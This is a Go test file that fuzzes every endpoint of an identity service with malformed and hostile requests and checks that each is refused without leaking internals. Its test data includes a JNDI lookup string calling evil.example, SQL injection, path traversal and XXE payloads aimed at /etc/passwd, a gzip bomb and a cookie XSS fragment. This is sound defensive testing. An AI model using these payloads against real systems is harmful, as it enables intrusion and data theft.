package attack_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/meins-id/meins/internal/apptest"
)

// tells finds what only a programmer should see: stacks, texts of Go's own errors, addresses in
// memory, names of files.
var tells = regexp.MustCompile(`(?i)goroutine|\.go:\d|runtime error|panic|invalid character|unexpected (EOF|end)|cannot unmarshal|` +
	`json: |strconv\.|http: |mime: |multipart: |gzip: |illegal base64|base64\.|invalid URL|0xc[0-9a-f]{6}|bbolt|cipher: |\*errors|%!|<nil>|/usr/|/tmp/`)

// survives checks that an answer to something hostile is a refusal in order, which tells nothing.
func survives(t *testing.T, what string, a apptest.Answer) {
	t.Helper()
	if a.Status >= http.StatusInternalServerError {
		t.Errorf("%s: %d %s", what, a.Status, a.Body)
	}
	if !strings.HasPrefix(a.Header.Get("Content-Type"), "text/html") {
		if tell := tells.Find(a.Body); tell != nil {
			t.Errorf("%s: the answer tells %q: %s", what, tell, a.Body)
		}
	}
	if a.Status >= http.StatusBadRequest && strings.HasPrefix(what, "/api/v1/") && a.Header.Get("Content-Type") != "application/problem+json" {
		t.Errorf("%s: %d is a %s", what, a.Status, a.Header.Get("Content-Type"))
	}
}

// malformed are bodies that nobody sends who means well. The limit is 1 MiB.
func malformed() map[string]string {
	deep := func(open, end string) string { return strings.Repeat(open, 9000) + "1" + strings.Repeat(end, 9000) }
	all := map[string]string{
		"empty": "", "a space": " ", "null": "null", "a list": "[]", "a text": `"x"`, "a number": "1", "true": "true", "cut": `{"flow":"x`, "cut early": "{",
		"two": `{}{}`, "more behind": `{} x`, "a comma too many": `{"login":"ada",}`, "single quotes": `{'login':'ada'}`, "NaN": `{"revision":NaN}`,
		"deep lists": deep("[", "]"), "deep objects": deep(`{"a":`, "}"), "deep in a member": `{"claims":` + deep("[", "]") + "}",
		"deeper than any parser":   strings.Repeat("[", 40<<10),
		"wrong types":              `{"login":1,"flow":[],"account":{},"slots":"x","current_auth":true,"auth":1,"revision":"1","claims":{},"passphrase":[],"reason":{},"grant":0,"kind":[]}`,
		"nulls":                    `{"login":null,"flow":null,"account":null,"slots":null,"current_auth":null,"auth":null,"slot":null,"grant_key":null,"document":null}`,
		"NUL bytes":                "{\"login\":\"a\x00b\",\"flow\":\"\x00\"}",
		"escaped NUL bytes":        `{"login":"\u0000\u0000\u0000","flow":"\u0000","digest":"\u0000","reason":"\u0000","kind":"\u0000"}`,
		"lone surrogates":          `{"login":"\ud800","flow":"\udfff","digest":"\ud800\ud800"}`,
		"huge numbers":             `{"revision":1e9999,"account":1e9999}`,
		"a number below nought":    `{"revision":-1,"flow":"x","login":-1}`,
		"a number too large":       `{"revision":18446744073709551616,"login":18446744073709551616,"flow":18446744073709551616}`,
		"a fraction":               `{"revision":1.5,"login":1.5,"flow":1.5}`,
		"bad base64":               `{"auth":"%%%","current_auth":"=","document":"a","grant_key":"-_-_","slot":{"sealed":"!"}}`,
		"a form":                   "login=ada&kind=passphrase&flow=x",
		"XML":                      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
		"a byte order mark":        "\xef\xbb\xbf{}",
		"UTF-16":                   "\xff\xfe{\x00}\x00",
		"invalid UTF-8":            "{\"flow\":\"\xff\xfe\xfd\",\"\xc0\x80\":1,\"auth\":\"\xff\"}",
		"noise":                    string(random(4096)),
		"many members":             "{" + strings.Repeat(`"a":1,`, 5000) + `"b":1}`,
		"a very long name":         `{"` + strings.Repeat("a", 50<<10) + `":1}`,
		"many list members":        `{"claims":["` + strings.Repeat(`x","`, 5000) + `x"],"slots":[` + strings.Repeat("{},", 5000) + `{}],"capsules":[` + strings.Repeat("{},", 5000) + "{}]}",
		"twice the same member":    `{"flow":"x","flow":"y","auth":"","auth":"","revision":1,"revision":2}`,
		"names in another case":    `{"FLOW":"x","Login":"","AUTH":"x"}`,
		"a prototype":              `{"__proto__":{"admin":true},"constructor":{"prototype":{}}}`,
		"a template":               `{"flow":"{{.}}","login":"${jndi:ldap://evil.example/x}","digest":"%s%s%n"}`,
		"a query":                  `{"login":"' OR 1=1 --","flow":"'; DROP TABLE accounts; --"}`,
		"a path":                   `{"login":"../../../etc/passwd","flow":"../../etc/passwd","grant":"../../x","account":"..","persona":"/"}`,
		"bad escapes in a form":    "grant_type=%zz&token=%&code=%f",
		"semicolons in a form":     "grant_type=authorization_code;code=x;token=y",
		"NUL bytes in a form":      "grant_type=refresh_token&refresh_token=%00&token=%00&client_id=%00&code=%00&redirect_uri=%00",
		"invalid UTF-8 in a form":  "grant_type=%ff&token=%ff&client_id=%ff&code=%ff&redirect_uri=%ff&id_token_hint=%ff&access_token=%ff",
		"indexed names in a form":  "grant_type[]=x&token[0]=y&Scopes.0=a&code.x=b",
		"many names in a form":     strings.Repeat("a=&", 10000),
		"a format that is no form": "--x\r\nContent-Disposition: form-data; name=\"token\"; filename=\"../../x\"\r\n\r\ny\r\n--x--",
	}
	return all
}

// The types that a body may claim to be.
var kinds = []string{
	apptest.JSON, apptest.JSON + "; charset=utf-16", apptest.Form, "text/plain", "multipart/form-data; boundary=x", "application/problem+json", "", ";;", "a/b\tc",
}

// ignores says that a call takes no body, so that whatever comes as one means nothing.
func ignores(e apptest.Endpoint) bool {
	return e.Method == http.MethodGet || !strings.HasPrefix(e.Path, "/api/") && !strings.HasPrefix(e.Path, "/oauth/") ||
		strings.Contains(e.Path, "/grants/") || e.Method == http.MethodDelete && (strings.Contains(e.Path, "/tokens/") || strings.Contains(e.Path, "/ssf/")) || e.Method == http.MethodDelete && strings.Contains(e.Path, "/session")
}

// vendors says that a call is one that vendors make: a customer's session opens nothing there.
func vendors(e apptest.Endpoint) bool {
	return strings.HasPrefix(e.Path, "/api/v1/ssf/") || strings.HasPrefix(e.Path, "/api/v1/vendor/")
}

func TestEveryEndpoint_refusesEveryMalformedBody_inOrder(t *testing.T) {
	w := start(t)
	ada := w.person(t, "ada")
	bodies := malformed()
	for _, e := range apptest.Endpoints(t) {
		t.Run(e.Method+" "+e.Path, func(t *testing.T) {
			for name, body := range bodies {
				for _, kind := range kindsFor(e, name) {
					what := fmt.Sprintf("%s with %s as %q", e.Path, name, kind)
					for who, send := range w.both(ada, e) {
						a := send(t, w.Request(t, e.Method, e.Path, strings.NewReader(body), kind))
						survives(t, what+" from "+who, a)
						if a.Status < http.StatusMultipleChoices && !ignores(e) && !harmless(e, a) {
							t.Errorf("%s from %s is accepted: %d %s", what, who, a.Status, a.Body)
						}
					}
				}
			}
		})
	}
	ada.signIn(t).Refused(t, http.StatusOK, "")
}

// kindsFor are the types that a body is sent as: the one that is wanted there, and, of a few bodies,
// all. Of what means nothing, a few are enough.
func kindsFor(e apptest.Endpoint, name string) []string {
	few := name == "null" || name == "noise" || name == "a form"
	switch {
	case ignores(e) && !few:
		return nil
	case ignores(e):
		return kinds[:1]
	case few:
		return kinds
	case strings.HasPrefix(e.Path, "/oauth/"):
		return []string{apptest.Form}
	}
	return []string{apptest.JSON}
}

// both are nobody, and a customer who signs in again when what was tried may have ended the session.
func (w *world) both(p *person, e apptest.Endpoint) map[string]func(testing.TB, *http.Request) apptest.Answer {
	return map[string]func(testing.TB, *http.Request) apptest.Answer{"nobody": w.Send, "a customer": func(t testing.TB, r *http.Request) apptest.Answer {
		a := p.Send(t, r)
		if e.Method == http.MethodDelete {
			p.signIn(t)
		}
		return a
	}}
}

// harmless are the answers that anybody gets to anything: how a login name is to be stretched, and
// that a token is good for nothing or revoked.
func harmless(e apptest.Endpoint, a apptest.Answer) bool {
	return strings.HasSuffix(e.Path, "/login/parameters") && a.Status == http.StatusOK || e.Path == "/oauth/revoke" && len(a.Body) == 0
}

// TestEveryEndpoint_takesAtMostOneMebibyte with and without the length said before, and does not unpack.
func TestEveryEndpoint_takesAtMostOneMebibyte(t *testing.T) {
	w := start(t)
	ada := w.person(t, "ada")
	large := `{"login":"` + strings.Repeat("a", 1<<20) + `"}`
	inForm := "token=" + strings.Repeat("a", 1<<20)
	for _, e := range apptest.Endpoints(t) {
		body, kind := large, apptest.JSON
		if strings.HasPrefix(e.Path, "/oauth/") {
			body, kind = inForm, apptest.Form
		}
		for who, send := range w.both(ada, e) {
			if ignores(e) && who == "nobody" {
				continue
			}
			for how, reader := range map[string]io.Reader{"at once": strings.NewReader(body), "in pieces": io.MultiReader(strings.NewReader(body))} {
				what := fmt.Sprintf("%s from %s %s", e.Path, who, how)
				a := send(t, w.Request(t, e.Method, e.Path, reader, kind))
				survives(t, what, a)
				if a.Status != http.StatusRequestEntityTooLarge && !ignores(e) && (who == "a customer" && !vendors(e) || !slices.Contains([]int{401, 403}, a.Status)) {
					t.Errorf("%s: %d %.200s", what, a.Status, a.Body)
				}
			}
		}
	}
}

func TestEveryEndpoint_unpacksNothing(t *testing.T) {
	w := start(t)
	ada := w.person(t, "ada")
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	zeros := make([]byte, 1<<20)
	for range 64 {
		if _, err := z.Write(zeros); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	var login bytes.Buffer
	z = gzip.NewWriter(&login)
	if _, err := io.WriteString(z, `{"login":"ada"}`); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	for _, e := range apptest.Endpoints(t) {
		codings := []string{"gzip", "br", "made-up"}
		if ignores(e) {
			codings = codings[:1]
		}
		for _, coding := range codings {
			for name, body := range map[string][]byte{"a bomb": bomb.Bytes(), "a login": login.Bytes()} {
				for who, send := range w.both(ada, e) {
					r := w.Request(t, e.Method, e.Path, bytes.NewReader(body), apptest.JSON)
					r.Header.Set("Content-Encoding", coding)
					a := send(t, r)
					survives(t, e.Path, a)
					if a.Status < http.StatusMultipleChoices && !ignores(e) {
						t.Errorf("%s %s from %s as %s is accepted: %d", e.Path, name, who, coding, a.Status)
					}
				}
			}
		}
	}
}

// TestEveryCall_takesJSONAndNothingElse: what a form on another site could send is refused, even
// when it says what would be right.
func TestEveryCall_takesJSONAndNothingElse(t *testing.T) {
	w := start(t)
	ada := w.person(t, "ada")
	right := object(t, map[string]any{"login": ada.login, "kind": "passphrase", "auth": ada.auth})
	for _, kind := range []string{"", "text/plain", apptest.Form, "multipart/form-data; boundary=x", "application/jsonx", "text/json", "application/problem+json", "text/plain, application/json", "application/json, text/plain", "application/json/x", "Application"} {
		for _, path := range []string{"/api/v1/session", "/api/v1/login/parameters"} {
			a := w.Send(t, w.Request(t, http.MethodPost, path, bytes.NewReader(right), kind))
			a.Refused(t, http.StatusBadRequest, "body-malformed")
			if a.Header.Get("Set-Cookie") != "" {
				t.Errorf("%s as %q begins a session", path, kind)
			}
		}
	}
	for _, e := range apptest.Calls(t) {
		if ignores(e) || vendors(e) {
			continue
		}
		ada.Send(t, w.Request(t, e.Method, e.Path, bytes.NewReader(right), "text/plain")).Refused(t, http.StatusBadRequest, "body-malformed")
	}
}

func TestHostilePathsQueriesAndCookies_areRefusedInOrder(t *testing.T) {
	w := start(t)
	ada := w.person(t, "ada")
	long := strings.Repeat("a", 40<<10)
	for _, path := range []string{
		"/api/v1/grants/%00", "/api/v1/grants/..%2f..%2faccounts", "/api/v1/grants/%ff", "/api/v1/grants/" + strings.ToUpper(apptest.AnID), "/api/v1/grants/" + long,
		"/api/v1/vault/revisions/-1", "/api/v1/vault/revisions/99999999999999999999999", "/api/v1/vault/revisions/0x1", "/api/v1/vault/revisions/1e9", "/api/v1/vault/revisions/%00",
		"/api/v1/grants/" + apptest.AnID + "/releases?limit=-1", "/api/v1/grants/" + apptest.AnID + "/releases?limit=x", "/api/v1/grants/" + apptest.AnID + "/releases?limit=99999999999999999999",
		"/api/v1/grants/" + apptest.AnID + "/releases?before=../../x", "/api/v1/grants/" + apptest.AnID + "/releases?before=%00%ff", "/api/v1/grants/" + apptest.AnID + "/releases?limit=1&limit=2",
		"/api/v1/", "/api/v1", "/api/v2/session", "/api/v1/%2e%2e/%2e%2e/etc/passwd", "/api/v1/session/", "/API/V1/session", "/api/v1/session%00",
		"/static/../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/static/..%2f..%2fetc%2fpasswd", "/static/%00", "/static/", "/static/" + long,
		"/vendors/%00/logo", "/vendors/..%2f..%2fx/logo", "/vendors/" + long + "/logo", "/connections/%00", "/connections/%ff", "/connections/..%2fvault", "/connections/" + long,
		"/connections/" + apptest.AnID + "?before=%00", "/continue?flow=%00", "/continue?flow=" + long, "/vault?lang=%00", "/vault?lang=" + long, "/?%zz", "/?a;b",
		"/oauth/token%00", "/oauth/../vault", "/oauth/%2e%2e/vault", "/oauth/authorize?%zz=1", "/oauth/authorize?client_id=%00", "/oauth/authorize?claims=" + long,
		"/.well-known/openid-configuration/../../etc/passwd", "/.git/config", "/debug/pprof/", "/metrics", "/admin", "/debug/vars",
	} {
		for who, send := range map[string]func(testing.TB, *http.Request) apptest.Answer{"nobody": w.Send, "a customer": ada.Send} {
			a := send(t, w.Request(t, http.MethodGet, path, nil, ""))
			survives(t, fmt.Sprintf("%.60s from %s", path, who), a)
			if strings.Contains(string(a.Body), "root:") || strings.Contains(string(a.Body), "go_goroutines") {
				t.Errorf("%.60s gives %.200s", path, a.Body)
			}
		}
	}
	for _, cookie := range []string{
		"meins_session=", "meins_session=x", "meins_session=" + long, "meins_session=..%2f..%2fx", `meins_session="` + ada.Cookie(t).Value + ` "`, "meins_session=" + ada.Cookie(t).Value + "A",
		"meins_session=" + ada.Cookie(t).Value[:42], "MEINS_SESSION=" + ada.Cookie(t).Value, "__Host-meins_session=" + ada.Cookie(t).Value, "theme=\"><script>", "lang=../../x", "lang=%00; theme=%ff", ";;;", "=",
	} {
		for _, path := range []string{"/api/v1/session", "/vault", "/oauth/authorize", "/"} {
			r := w.Request(t, http.MethodGet, path, nil, "")
			r.Header.Set("Cookie", cookie)
			a := w.Send(t, r)
			survives(t, fmt.Sprintf("%s with the cookie %.60s", path, cookie), a)
			if path == "/api/v1/session" {
				a.Refused(t, http.StatusUnauthorized, "no-session")
			}
			if strings.Contains(string(a.Body), `"><script>`) {
				t.Errorf("%s has the cookie in it: %s", path, a.Body)
			}
		}
	}
}
